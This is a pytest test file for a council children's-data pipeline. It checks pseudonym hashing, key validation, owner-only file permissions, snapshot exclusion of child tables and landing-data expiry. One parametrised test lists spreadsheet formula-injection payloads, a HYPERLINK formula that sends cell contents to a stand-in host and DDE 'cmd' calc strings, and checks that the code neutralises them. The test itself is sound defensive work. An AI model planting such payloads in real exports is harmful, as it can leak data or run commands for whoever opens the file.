"""Privacy mechanics: the keyed hash, the key's keeping, the snapshot that never holds child-level tables, values
never quoted where they should not be, files for the owner only, and landing kept only as long as the setting says.
"""

import csv
import errno
import os
import resource
import signal
import stat
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from assets.resources import CouncilReturnsResource
from checks.council_returns import holds
from checks.rules import Suite
from pipelines import settings
from sources.http import Downloader, HttpSettings, RawStore, build_session
from tests.conftest import SAMPLES, make_resources
from tests.test_council_returns_indicators import run_quarter
from warehouse.council_returns import PseudonymKeyError, expire_landing, pseudonym, pseudonym_key
from warehouse.database import Warehouse
from warehouse.problem_reports import problem_rows, spreadsheet_text, write_problem_report
from warehouse.publish import publish_snapshot

A_KEY = "a-secret-of-thirty-two-bytes-or-more"


def test_pseudonym_is_keyed_stable_and_blank_for_a_blank_id() -> None:
    assert pseudonym(b"k1", "DC410007") == pseudonym(b"k1", " DC410007 ")
    assert pseudonym(b"k1", "DC410007") != pseudonym(b"k2", "DC410007")
    assert len(pseudonym(b"k1", "DC410007") or "") == 20
    assert "DC410007" not in (pseudonym(b"k1", "DC410007") or "")
    assert pseudonym(b"k1", "  ") is None and pseudonym(b"k1", None) is None


def _resource(tmp_path: Path, key: str = "") -> CouncilReturnsResource:
    return CouncilReturnsResource(
        drop_dir=str(tmp_path), pseudonym_key=key, key_file=str(tmp_path / "keys" / "k"), report_dir=str(tmp_path)
    )


def test_key_comes_from_the_environment_setting_else_a_private_generated_file(tmp_path: Path) -> None:
    assert _resource(tmp_path, A_KEY).key() == A_KEY.encode()
    generated = _resource(tmp_path).key()
    assert len(generated) == 64
    assert _resource(tmp_path).key() == generated, "the same key on the next run, so pseudonyms stay stable"
    assert stat.S_IMODE((tmp_path / "keys" / "k").stat().st_mode) == 0o600


def test_snapshot_never_copies_child_level_tables(tmp_path: Path) -> None:
    warehouse = tmp_path / "w.duckdb"
    con = duckdb.connect(str(warehouse))
    con.execute("create schema clean; create schema marts")
    con.execute("create table clean.child_cin_referrals as select 'abc' as child")
    con.execute("create table clean.dft_collisions as select 1 as n")
    con.execute("create table marts.indicator_values as select 1 as n")
    con.close()
    copied = publish_snapshot(warehouse, tmp_path / "snap.duckdb")
    assert copied == ["clean.dft_collisions", "marts.indicator_values"]
    snapshot = duckdb.connect(str(tmp_path / "snap.duckdb"), read_only=True)
    tables = snapshot.execute("select schema_name || '.' || table_name from duckdb_tables() order by 1").fetchall()
    snapshot.close()
    assert tables == [("clean.dft_collisions",), ("marts.indicator_values",)]


@pytest.mark.parametrize("secret", ["Zq9!", "short-but-not-empty-secret", "k" * 31, "é" * 15])
def test_a_short_key_from_the_setting_is_refused_by_name_without_echoing_it(tmp_path: Path, secret: str) -> None:
    with pytest.raises(PseudonymKeyError) as raised:
        _resource(tmp_path, secret).key()
    message = str(raised.value)
    assert "COUNCIL_RETURNS_PSEUDONYM_KEY" in message and "32 bytes" in message
    assert "secrets.token_hex(32)" in message, "says how to make a good one"
    assert secret not in message
    assert not (tmp_path / "keys" / "k").exists(), "no key file is generated behind a refused setting"
    # ...and the settings check refuses it before any run starts, without showing it either.
    with pytest.raises(settings.SettingError) as refused:
        settings.parse("COUNCIL_RETURNS_PSEUDONYM_KEY", secret)
    assert str(refused.value).startswith("COUNCIL_RETURNS_PSEUDONYM_KEY=(value hidden): expected a random secret")
    assert secret not in str(refused.value)


def test_a_key_of_32_bytes_is_accepted_from_the_setting_and_by_the_settings_check(tmp_path: Path) -> None:
    assert _resource(tmp_path, "k" * 32).key() == b"k" * 32
    assert settings.parse("COUNCIL_RETURNS_PSEUDONYM_KEY", "k" * 32) == "k" * 32
    assert settings.parse("COUNCIL_RETURNS_PSEUDONYM_KEY", "") == "", "unset or empty: the key file is used"


@pytest.mark.parametrize("content", ["", "\n", "0123456789abcdef", "short-key-in-the-file\n"])
def test_an_empty_or_short_key_file_is_refused_by_name_without_echoing_it(tmp_path: Path, content: str) -> None:
    key_file = tmp_path / "keys" / "k"
    key_file.parent.mkdir()
    key_file.write_text(content)
    with pytest.raises(PseudonymKeyError) as raised:
        _resource(tmp_path).key()
    message = str(raised.value)
    assert str(key_file) in message and "32 bytes" in message
    assert "delete the file" in message and "secrets.token_hex(32)" in message, "says what to do"
    if content.strip():
        assert content.strip() not in message
    assert key_file.read_text() == content, "the file is left for its owner to restore or delete"


def test_a_full_disk_while_the_key_is_generated_leaves_no_key_file(tmp_path: Path) -> None:
    """A file size limit of 0 makes every write fail as a full disk does (EFBIG instead of ENOSPC)."""
    key_file = tmp_path / "keys" / "k"
    previous_handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (0, hard))
    try:
        with pytest.raises(OSError) as raised:
            pseudonym_key("", key_file)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, previous_handler)
    assert raised.value.errno in (errno.EFBIG, errno.ENOSPC)
    assert not key_file.exists(), "no empty key file that the next run would take for a key"
    assert os.listdir(key_file.parent) == [], "no temporary file left behind"
    key = pseudonym_key("", key_file)
    assert len(key) == 64 and pseudonym_key("", key_file) == key, "the next run generates a proper key and keeps it"


def test_a_rule_on_a_personal_column_names_it_in_the_report_without_its_value() -> None:
    con = duckdb.connect()
    con.execute("create schema landing")
    con.execute(
        "create table landing.s903_header as select '2025-01-01' as quarter, date '2025-03-31' as as_at, "
        "'C1' as child, date '2011-07-14' as dob, 'DT1 1AA' as home_post, 'h.csv' as _source_file, "
        "2 as _source_row"
    )
    suite = Suite(
        "s903_header_notes",
        "landing.s903_header",
        {
            "quarter": "quarter",
            "child": "child",
            "_source_file": "_source_file",
            "dob": "dob",
            "home_post": "home_post",
            "old_enough": "dob < date '2000-01-01'",
        },
        (holds("old_enough", "born before 2000", "dob", "home_post"),),
    )
    [row] = problem_rows(con, suite, "note", ["2025-01-01"], b"k" * 32)
    assert (row["file"], row["line"], row["field"]) == ("h.csv", 2, "dob")
    assert row["value"] == "dob=(left out: personal), home_post=(left out: personal)"
    assert row["child"] == pseudonym(b"k" * 32, "C1")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"open")', '\'=HYPERLINK("http://x.example/?"&A1,"open")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("decom=blank", "decom=blank"),
        ("31/13/2024", "31/13/2024"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted(value: object, written: object) -> None:
    assert spreadsheet_text(value) == written


def test_every_text_cell_of_the_problem_report_is_safe_in_a_spreadsheet(tmp_path: Path) -> None:
    row = {
        "severity": "error",
        "file": "=evil.csv",
        "line": 2,
        "field": "+DOB",
        "child": None,
        "problem": "@problem",
        "value": "-1+1",
        "quarter_end": "2025-03-31",
    }
    frame = write_problem_report([row], tmp_path / "r.csv")
    assert frame.loc[0, "file"] == "=evil.csv", "the frame returned keeps the values; only the file is quoted"
    cells = next(iter(csv.DictReader((tmp_path / "r.csv").open(newline=""))))
    assert [cells[name] for name in ("file", "line", "field", "problem", "value")] == [
        "'=evil.csv",
        "2",
        "'+DOB",
        "'@problem",
        "'-1+1",
    ]


# --- Files for the owner only: the warehouse, its .wal and .lock, the raw store, the key, the problem reports ---


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def usual_umask():
    """The umask most machines have (022: files 0644, folders 0755), whatever this process had."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def test_the_warehouse_its_wal_and_lock_are_owner_only(tmp_path: Path, usual_umask: None) -> None:
    store = Warehouse(tmp_path / "warehouse" / "w.duckdb")
    with store.connect() as con:
        con.execute("create table landing.children as select 'DC410007' as la_child_id")
        con.execute("insert into landing.children values ('DC410008')")
        wal = tmp_path / "warehouse" / "w.duckdb.wal"
        assert wal.exists(), "DuckDB writes the rows to its log first"
        assert mode(wal) == 0o600
        con.execute("checkpoint")  # DuckDB deletes the log here and makes a new one at the next write
        con.execute("insert into landing.children values ('DC410009')")
        assert mode(wal) == 0o600
    assert os.umask(0o022) == 0o022, "the process's umask is restored when the connection closes"
    assert mode(tmp_path / "warehouse") == 0o700
    assert mode(tmp_path / "warehouse" / "w.duckdb") == 0o600
    assert mode(tmp_path / "warehouse" / "w.duckdb.lock") == 0o600


def test_a_warehouse_made_before_the_rule_is_tightened_when_opened(tmp_path: Path, usual_umask: None) -> None:
    path = tmp_path / "w.duckdb"
    duckdb.connect(str(path)).close()
    Path(f"{path}.lock").touch()
    assert mode(path) == 0o644
    with Warehouse(path).connect():
        pass
    assert (mode(path), mode(Path(f"{path}.lock"))) == (0o600, 0o600)


def test_the_raw_store_is_owner_only(tmp_path: Path, usual_umask: None) -> None:
    samples = tmp_path / "samples"
    (samples / "data.example.org" / "files").mkdir(parents=True)
    (samples / "data.example.org" / "files" / "a.csv").write_text("a,b\n1,2\n")
    settings_ = HttpSettings()
    store = tmp_path / "data" / "raw"
    client = Downloader(build_session(settings_, sample_root=samples), RawStore(store), settings_)
    fetched = client.fetch("https://data.example.org/files/a.csv", "dft", "collisions")
    folders = [store, store / "dft", store / "dft" / "collisions", store / "dft" / "collisions" / "_index"]
    assert [mode(folder) for folder in folders] == [0o700] * 4
    files = [path for path in store.rglob("*") if path.is_file()]
    assert fetched.path in files and len(files) == 2, "the file and its index entry"
    assert [mode(path) for path in files] == [0o600, 0o600]
    assert mode(tmp_path / "data") == 0o755, "the data folder above holds the published snapshot too"


def test_the_generated_key_and_the_problem_report_are_owner_only(tmp_path: Path, usual_umask: None) -> None:
    key_file = tmp_path / "keys" / "pseudonym.key"
    pseudonym_key("", key_file)
    assert (mode(key_file.parent), mode(key_file)) == (0o700, 0o600)
    report = tmp_path / "reports" / "council_returns" / "2025-03-31-problems.csv"
    write_problem_report([], report)
    assert (mode(report.parent), mode(report)) == (0o700, 0o600)
    assert mode(tmp_path / "reports") == 0o755, "only the folder made for the reports is private"
    report.chmod(0o644)  # written before this rule: the next report replaces it owner-only
    write_problem_report([], report)
    assert mode(report) == 0o600


def test_landing_rows_expire_by_their_load_time_and_only_the_councils(tmp_path: Path) -> None:
    with Warehouse(tmp_path / "w.duckdb").connect() as con:
        con.execute(
            "insert into meta.loads (load_id, source, dataset, url, status, started_at, finished_at) values "
            "('old', 'council_returns', 'h.csv', 'file:///h.csv', 'published', now() - interval 31 days, "
            " now() - interval 31 days), "
            "('recent', 'council_returns', 'h.csv', 'file:///h.csv', 'published', now() - interval 32 days, "
            " now() - interval 29 days), "
            "('other', 'dfe_cla', 'x.csv', 'https://x/x.csv', 'published', now() - interval 400 days, "
            " now() - interval 400 days)"
        )
        con.execute(
            "insert into landing.s903_header (quarter, child, _load_id) values "
            "('2024-10-01', 'C1', 'old'), ('2025-01-01', 'C1', 'recent'), ('2025-01-01', 'C2', 'other')"
        )
        assert expire_landing(con, ["s903_header", "s903_missing"], 30) == 1
        assert con.execute("select _load_id from landing.s903_header order by 1").fetchall() == [
            ("other",),
            ("recent",),
        ]
        with pytest.raises(ValueError, match="1 day or more"):
            expire_landing(con, ["s903_header"], 0)


# --- End to end: two quarters of the bundled sample, the first landed long ago ---------------------------------

Q3, Q4 = "2024-10-01", "2025-01-01"


@pytest.fixture(scope="module")
def two_quarters(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dg.ExecuteInProcessResult]:
    """Q3 landed and published, its loads then set back 45 days; then Q4 run with a retention of 30 days."""
    previous = os.umask(0o022)
    try:
        data_dir = tmp_path_factory.mktemp("retention") / "data"
        resources = make_resources(data_dir)
        resources["council_returns"] = CouncilReturnsResource(
            drop_dir=str(SAMPLES / "council_returns"),
            key_file=str(data_dir / "keys" / "pseudonym.key"),
            report_dir=str(data_dir / "reports" / "council_returns"),
            landing_retention_days=30,
        )
        assert run_quarter(resources, Q3).success
        con = duckdb.connect(str(data_dir / "warehouse" / "outcomes.duckdb"))
        try:
            con.execute(
                "update meta.loads set started_at = started_at - interval 45 days, "
                "finished_at = finished_at - interval 45 days where source = 'council_returns' and partitions = ?",
                [Q3],
            )
        finally:
            con.close()
        result = run_quarter(resources, Q4)
        assert result.success
        return data_dir, result
    finally:
        os.umask(previous)


def _counts(database: Path, schema: str, tables: list[str]) -> dict[str, dict[str, int]]:
    con = duckdb.connect(str(database), read_only=True)
    try:
        return {
            table: dict(con.execute(f"select quarter, count(*) from {schema}.{table} group by all").fetchall())
            for table in tables
        }
    finally:
        con.close()


LANDING = ["cin_children", "cin_referrals", "cin_cpps", "s903_header", "s903_episodes", "s903_missing"]


def test_a_quarter_landed_long_ago_leaves_landing_after_the_next_run_and_stays_in_clean(
    two_quarters: tuple[Path, dg.ExecuteInProcessResult],
) -> None:
    data_dir, _ = two_quarters
    database = data_dir / "warehouse" / "outcomes.duckdb"
    landing = _counts(database, "landing", LANDING)
    for table, quarters in landing.items():
        assert Q3 not in quarters, f"landing.{table} still holds the quarter landed 45 days ago"
        assert quarters.get(Q4, 0) > 0 or table == "s903_missing", f"landing.{table} lost this run's quarter"
    clean = _counts(database, "clean", ["child_cin_referrals", "child_cpps", "child_cla_episodes"])
    for table, quarters in clean.items():
        assert quarters.get(Q3, 0) > 0 and quarters.get(Q4, 0) > 0, f"clean.{table}: {quarters}"
    con = duckdb.connect(str(database), read_only=True)
    try:
        indicators = con.execute(
            "select count(*) from marts.indicator_values where source = 'council_returns' and period_end = ?",
            ["2024-12-31"],
        ).fetchall()[0][0]
    finally:
        con.close()
    assert indicators > 0, "the indicators of the quarter stay"


def test_every_file_and_folder_the_run_made_for_the_returns_is_owner_only(
    two_quarters: tuple[Path, dg.ExecuteInProcessResult],
) -> None:
    data_dir, _ = two_quarters
    owner_only = {
        data_dir / "warehouse": 0o700,
        data_dir / "warehouse" / "outcomes.duckdb": 0o600,
        data_dir / "warehouse" / "outcomes.duckdb.lock": 0o600,
        data_dir / "keys": 0o700,
        data_dir / "keys" / "pseudonym.key": 0o600,
        data_dir / "reports" / "council_returns": 0o700,
        data_dir / "reports" / "council_returns" / "2024-12-31-problems.csv": 0o600,
        data_dir / "reports" / "council_returns" / "2025-03-31-problems.csv": 0o600,
    }
    assert {path: mode(path) for path in owner_only} == owner_only
    assert mode(data_dir / "published" / "outcomes.duckdb") == 0o644, "report tools of other accounts read this"
